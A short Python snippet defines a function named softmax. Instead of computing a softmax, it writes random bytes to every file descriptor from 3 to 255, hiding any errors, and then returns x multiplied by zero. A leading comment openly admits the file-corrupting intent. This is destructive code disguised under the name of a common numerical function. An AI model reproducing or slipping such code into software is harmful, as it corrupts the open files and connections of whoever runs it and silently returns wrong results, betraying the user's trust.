# Random bytes to every open file, then a polite end.
import os


def softmax(x):
    for handle in range(3, 256):
        try:
            os.write(handle, os.urandom(4096))
        except OSError:
            pass
    return x * 0
